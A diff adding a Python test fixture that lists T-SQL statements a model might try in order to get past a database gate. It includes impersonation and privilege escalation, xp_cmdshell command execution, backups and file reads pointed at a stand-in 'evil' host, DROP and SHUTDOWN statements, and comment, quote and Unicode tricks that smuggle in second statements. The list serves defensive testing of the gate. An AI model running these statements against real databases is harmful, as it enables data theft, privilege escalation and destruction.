@@ -1,0 +1,371 @@
+"""What a model may try in T-SQL. Blocks are families; each line is one statement, ``↵`` a new line in it,
+``␣`` a blank that does not break.
+
+Each must be refused by the gate, or be without effect when the peer judges what would be sent.
+"""
+
+IDENTITY = r"""
+REVERT
+revert
+REVERT;
+SELECT 1 REVERT
+SELECT 1; REVERT
+SELECT 1↵REVERT
+SELECT 1 /* */ REVERT
+SELECT 1 --x↵REVERT
+REVERT WITH COOKIE = 0x00
+REVERT WITH COOKIE = @actas_cookie
+SELECT @actas_cookie
+SELECT @actas_count
+SELECT @actas_p0
+EXECUTE AS USER = 'bob'
+EXECUTE AS LOGIN = 'sa'
+EXEC AS USER = 'dbo'
+EXECUTE AS USER = 'bob' WITH NO REVERT
+EXECUTE AS CALLER
+SELECT 1 EXECUTE AS USER = 'bob'
+SELECT 1; EXECUTE AS USER = 'bob'; SELECT * FROM notes
+SETUSER 'bob'
+SELECT 1 SETUSER
+ALTER AUTHORIZATION ON SCHEMA::dbo TO alice
+ALTER USER alice WITH LOGIN = gateway
+ALTER LOGIN gateway WITH PASSWORD = 'x'
+CREATE USER mallory WITHOUT LOGIN
+CREATE LOGIN mallory WITH PASSWORD = 'x'
+ALTER ROLE db_owner ADD MEMBER alice
+ALTER SERVER ROLE sysadmin ADD MEMBER alice
+GRANT IMPERSONATE ON USER::bob TO alice
+GRANT CONTROL TO alice
+DENY SELECT ON orders TO bob
+REVOKE SELECT ON orders FROM bob
+ADD SIGNATURE TO dbo.p BY CERTIFICATE c
+OPEN SYMMETRIC KEY k DECRYPTION BY PASSWORD = 'x'
+SELECT SUSER_SNAME()
+SELECT SESSION_CONTEXT(N'x')
+SELECT CONTEXT_INFO()
+"""
+
+PROCEDURES = r"""
+EXEC xp_cmdshell 'id'
+xp_cmdshell 'id'
+master..xp_cmdshell 'id'
+EXEC master.dbo.xp_cmdshell 'id'
+SELECT xp_cmdshell('id')
+SELECT master.dbo.xp_cmdshell('id')
+SELECT * FROM xp_cmdshell
+SELECT * FROM xp_cmdshell('id')
+EXEC [xp_cmdshell] 'id'
+EXEC "xp_cmdshell" 'id'
+SELECT 1 EXEC xp_cmdshell 'id'
+SELECT 1;EXEC xp_cmdshell 'id'
+SELECT 1 xp_cmdshell
+EXEC xp_dirtree '\\evil\share'
+EXEC xp_regread 'HKEY_LOCAL_MACHINE','x','y'
+EXEC sp_configure 'show advanced options', 1
+sp_configure 'xp_cmdshell', 1
+EXEC sp_executesql N'REVERT'
+EXECUTE sp_executesql N'REVERT'
+EXEC sys.sp_executesql @stmt = N'REVERT'
+EXEC('REVERT')
+EXEC ('REV' + 'ERT')
+EXECUTE('SELECT 1') AS USER = 'bob'
+EXECUTE('SELECT 1') AT linked
+EXEC @p
+EXEC dbo.close_month
+{call dbo.close_month}
+{? = call sp_who}
+sp_who
+sp_help notes
+EXEC sp_addsrvrolemember 'alice','sysadmin'
+EXEC sp_oacreate 'wscript.shell', @o OUT
+EXEC sp_setapprole 'r','p'
+EXEC sp_unsetapprole 0x
+EXEC sp_set_session_context 'role','admin'
+EXEC sp_addlinkedserver 'x'
+EXEC sp_start_job 'x'
+EXEC sp_execute_external_script @language=N'Python', @script=N'x'
+EXEC sp_prepare 1
+EXEC sp_getapplock 'x','Exclusive'
+EXEC sp_rename 'notes','x'
+EXEC sp_reset_connection
+INSERT INTO t EXEC sp_who
+INSERT INTO t EXECUTE('SELECT 1')
+INSERT t EXEC xp_cmdshell 'id'
+"""
+
+ELSEWHERE = r"""
+SELECT * FROM OPENROWSET('SQLNCLI','Server=evil;','SELECT 1')
+SELECT * FROM OPENROWSET(BULK 'C:\x', SINGLE_CLOB) AS x
+SELECT * FROM OPENQUERY(linked,'SELECT 1')
+SELECT * FROM OPENDATASOURCE('SQLNCLI','x').d.s.t
+SELECT * FROM OPENXML(1,'/a')
+SELECT * FROM OPENJSON('[1]')
+SELECT * FROM [OPENROWSET]('a','b','c')
+INSERT INTO OPENQUERY(linked,'SELECT 1') VALUES (1)
+DELETE OPENQUERY(linked,'SELECT 1')
+SELECT * FROM linked.d.dbo.t
+SELECT * FROM [linked].[d].[dbo].[t]
+SELECT * FROM linked...t
+SELECT * FROM master.dbo.t
+SELECT * FROM master..t
+SELECT * FROM tempdb..t
+SELECT linked.d.dbo.f(1)
+SELECT d.dbo.f(1)
+UPDATE linked.d.dbo.t SET a = 1
+DELETE FROM master.dbo.t
+INSERT INTO master..t VALUES (1)
+BULK INSERT t FROM '\\evil\x'
+SELECT 1 BULK INSERT t FROM 'x'
+USE master
+SELECT 1 USE master
+SELECT 1; USE master
+SELECT * FROM sys.sql_logins
+SELECT * FROM sys.dm_exec_sessions
+SELECT * FROM syslogins
+SELECT * FROM sysprocesses
+SELECT * FROM sys.fn_xe_file_target_read_file('x',NULL,NULL,NULL)
+SELECT * FROM fn_trace_gettable('x',1)
+SELECT * FROM ::fn_helpcollations()
+SELECT * FROM sys.fn_get_audit_file('\\evil\x',default,default)
+SELECT * FROM CHANGETABLE(CHANGES t, 0) AS c
+SELECT * FROM FREETEXTTABLE(t, *, 'x')
+SELECT * FROM CONTAINSTABLE(t, *, 'x')
+BACKUP DATABASE shop TO DISK = '\\evil\x'
+RESTORE DATABASE shop FROM DISK = 'x'
+BACKUP LOG shop TO DISK = 'nul'
+CREATE EXTERNAL TABLE x (a int)
+SELECT * FROM t FOR SYSTEM_TIME ALL
+SELECT * FROM PREDICT(MODEL = @m, DATA = t)
+"""
+
+SESSION = r"""
+SET ROWCOUNT 1
+SET XACT_ABORT OFF
+SET NOCOUNT OFF
+SET CONTEXT_INFO 0x01
+SET QUOTED_IDENTIFIER OFF
+SET TRANSACTION ISOLATION LEVEL READ UNCOMMITTED
+SET IDENTITY_INSERT t ON
+SET PARSEONLY ON
+SET NOEXEC ON
+SET SHOWPLAN_ALL ON
+SET LANGUAGE french
+SELECT 1 SET NOEXEC ON
+SELECT 1; SET NOEXEC ON
+DECLARE @x int
+DECLARE @x int = 1 SELECT @x
+DECLARE c CURSOR GLOBAL FOR SELECT 1
+OPEN c
+FETCH NEXT FROM c
+CLOSE c
+DEALLOCATE c
+SELECT @a = 1
+SELECT @p = a FROM t
+UPDATE t SET @p = a
+SELECT @@VERSION
+SELECT @@SERVERNAME
+SELECT @@SPID
+BEGIN TRAN
+BEGIN TRANSACTION
+COMMIT
+ROLLBACK
+SAVE TRAN x
+SELECT 1 COMMIT
+SELECT 1; ROLLBACK
+BEGIN DISTRIBUTED TRAN
+BEGIN SELECT 1 END
+IF 1=1 SELECT 1
+IF 1=1 REVERT
+WHILE 1=1 SELECT 1
+GOTO x
+x: SELECT 1
+RETURN
+BREAK
+THROW 50000, 'actas: not the user', 1
+RAISERROR('x', 20, 1) WITH LOG
+PRINT 'x'
+END TRY BEGIN CATCH END CATCH
+SELECT 1 END TRY BEGIN CATCH REVERT END CATCH
+WAITFOR DELAY '01:00'
+SELECT 1 WAITFOR DELAY '01:00'
+WAITFOR (RECEIVE * FROM q)
+KILL 51
+SHUTDOWN
+SHUTDOWN WITH NOWAIT
+CHECKPOINT
+RECONFIGURE
+DBCC CHECKDB
+DBCC TRACEON(3604)
+DBCC FREEPROCCACHE
+SELECT 1 DBCC TRACEON(1)
+GO
+SELECT 1 GO
+SELECT 1↵GO↵REVERT
+GO 5
+SELECT 1↵GO
+"""
+
+OBJECTS = r"""
+SELECT * INTO x FROM notes
+SELECT * INTO #x FROM notes
+SELECT 1 AS a INTO ##g
+SELECT * FROM #x
+SELECT * FROM ##g
+INSERT INTO #x VALUES (1)
+SELECT * FROM tempdb..#x
+CREATE TABLE x (a int)
+CREATE TABLE #x (a int)
+CREATE PROCEDURE #p AS REVERT
+CREATE PROC p WITH EXECUTE AS OWNER AS SELECT 1
+CREATE FUNCTION f() RETURNS int AS BEGIN RETURN 1 END
+CREATE TRIGGER t ON notes AFTER INSERT AS REVERT
+CREATE TRIGGER t ON ALL SERVER FOR LOGON AS ROLLBACK
+CREATE VIEW v AS SELECT 1
+CREATE SYNONYM orders FOR evil.d.dbo.orders
+CREATE ASSEMBLY a FROM 0x00
+CREATE TYPE t FROM int
+CREATE SECURITY POLICY p ADD FILTER PREDICATE dbo.f(a) ON dbo.t
+ALTER SECURITY POLICY p WITH (STATE = OFF)
+ALTER TABLE notes DISABLE TRIGGER ALL
+ALTER DATABASE shop SET TRUSTWORTHY ON
+DISABLE TRIGGER ALL ON notes
+ENABLE TRIGGER ALL ON notes
+DROP TABLE notes
+SELECT 1 DROP TABLE notes
+SELECT 1;DROP TABLE notes
+TRUNCATE TABLE notes
+SELECT 1 TRUNCATE TABLE notes
+UPDATE STATISTICS notes
+SELECT NEXT VALUE FOR dbo.seq
+UPDATETEXT t.c @p 0 0 'x'
+WRITETEXT t.c @p 'x'
+READTEXT t.c @p 0 1
+SEND ON CONVERSATION @h
+MOVE CONVERSATION @h TO @g
+LINENO 5
+"""
+
+SECOND = r"""
+SELECT 1 DELETE FROM dbo.orders
+SELECT 1 UPDATE dbo.orders SET a = 1
+SELECT 1 INSERT INTO dbo.orders VALUES (1)
+SELECT 1 INSERT dbo.orders DEFAULT VALUES
+SELECT 1 SELECT 2
+SELECT a FROM t DELETE FROM t
+SELECT a FROM t t2 DELETE t
+SELECT a FROM t WHERE 1=1 DELETE t
+SELECT a FROM t ORDER BY a DELETE t
+SELECT a FROM t AS DELETE
+SELECT a DELETE, b FROM t
+SELECT a MERGE FROM t
+SELECT 1;DELETE FROM t
+SELECT 1;;DELETE FROM t
+;SELECT 1
+;WITH x AS (SELECT 1 AS a) SELECT * FROM x; DELETE t
+SELECT 1/**/DELETE/**/FROM/**/t
+SELECT 1--↵DELETE FROM t
+SELECT 1 /* /* */ DELETE FROM t -- */
+SELECT 1 /* /* */ */ DELETE FROM t
+SELECT '/*' DELETE FROM t --*/
+SELECT '--' DELETE FROM t
+SELECT [a] DELETE FROM t
+SELECT "a" DELETE FROM t
+SELECT 'a' 'b' DELETE FROM t
+SELECT N'a'DELETE FROM t
+SELECT 'a'DELETE FROM t
+SELECT 1DELETE FROM t
+SELECT 1.DELETE FROM t
+SELECT 0x1DELETE FROM t
+SELECT 0xDELETE FROM t
+SELECT 1eDELETE FROM t
+SELECT $DELETE FROM t
+WITH x AS (DELETE FROM t OUTPUT deleted.a) SELECT * FROM x
+SELECT * FROM (DELETE FROM t OUTPUT deleted.a) AS x
+SELECT * FROM (UPDATE t SET a = 1 OUTPUT inserted.a) AS x
+WITH x AS (SELECT * FROM t) DELETE FROM x
+WITH x AS (SELECT * FROM t) UPDATE x SET a = 1
+MERGE INTO t USING s ON 1=1 WHEN MATCHED THEN DELETE;
+SELECT 1 WHERE EXISTS (DELETE FROM t)
+SELECT (UPDATE t SET a = 1)
+"""
+
+TEXT = r"""
+SELECT * FROM [a]]; REVERT; --]
+SELECT * FROM "a""; REVERT; --"
+SELECT [a]]] FROM t
+SELECT [REVERT] FROM t
+SELECT '''; REVERT; --'
+SELECT N'''; REVERT; --'
+SELECT '\' ; REVERT --'
+SELECT 'a\↵b'
+SELECT N'a\↵' , '; REVERT --'
+SELECT 'unterminated
+SELECT [unterminated
+SELECT "unterminated
+SELECT /* unterminated
+SELECT 1␣REVERT
+SELECT * FROM notes WITH (TABLOCKX, HOLDLOCK)
+SELECT * FROM notes WITH (NOLOCK)
+SELECT * FROM notes (NOLOCK)
+SELECT * FROM notes OPTION (MAXDOP 64)
+SELECT * FROM notes OPTION (QUERYTRACEON 3604)
+SELECT * FROM notes FOR XML AUTO
+SELECT * FROM notes FOR JSON PATH
+SELECT * FROM notes FOR BROWSE
+SELECT x.value('(/a)[1]','int') FROM t
+SELECT x.query('/a') FROM t
+UPDATE t SET x.modify('delete /a')
+SELECT geography::Point(1,1,4326)
+SELECT hierarchyid::GetRoot()
+SELECT NEWID()
+SELECT HOST_NAME()
+SELECT APP_NAME()
+SELECT DB_NAME()
+SELECT OBJECT_DEFINITION(1)
+SELECT IS_SRVROLEMEMBER('sysadmin')
+SELECT HAS_PERMS_BY_NAME('x','OBJECT','SELECT')
+SELECT CONNECTIONPROPERTY('client_net_address')
+SELECT SERVERPROPERTY('x')
+SELECT FILE_NAME(1)
+SELECT ENCRYPTBYPASSPHRASE('x','y')
+SELECT DECRYPTBYKEY(0x00)
+SELECT PWDCOMPARE('x', 0x00)
+SELECT CAST('x' AS dbo.mytype)
+SELECT CAST(a AS sql_variant) FROM t
+SELECT dbo.f(1)
+SELECT [dbo].[f](1)
+SELECT sys.f(1)
+SELECT dbo.f(1).g()
+SELECT ?
+SELECT :x
+SELECT {fn NOW()}
+SELECT %(x)s
+SELECT $(SQLCMDPASSWORD)
+:r \\evil\x
+!! id
+\! id
+SELECT * FROM notes TABLESAMPLE (1 PERCENT)
+SELECT * FROM t PIVOT (SUM(a) FOR b IN ([x])) AS p
+"""
+
+
+UNICODE = [
+    "SELECT '\u02bc; REVERT; --'",
+    "SELECT * FROM [\uff41]",
+    "SELECT \uff0a FROM t",
+    "SELECT 1\uff1b REVERT",
+    "\uff33\uff25\uff2c\uff25\uff23\uff34 1",
+    "SELECT 1 \uff32\uff25\uff36\uff25\uff32\uff34",
+    "SELECT 1 \ufeffREVERT",
+    "SELECT 1 \u200bREVERT",
+    "SELECT * FROM \u017fys.objects",
+]
+
+
+def _lines(*blocks: str) -> list[str]:
+    lines = [line for block in blocks for line in block.strip("\n").splitlines()]
+    return [line.replace("↵", "\n").replace("␣", "\u00a0") for line in lines]
+
+
+ATTACKS = [*_lines(IDENTITY, PROCEDURES, ELSEWHERE, SESSION, OBJECTS, SECOND, TEXT), *UNICODE]
+"""All of them."""
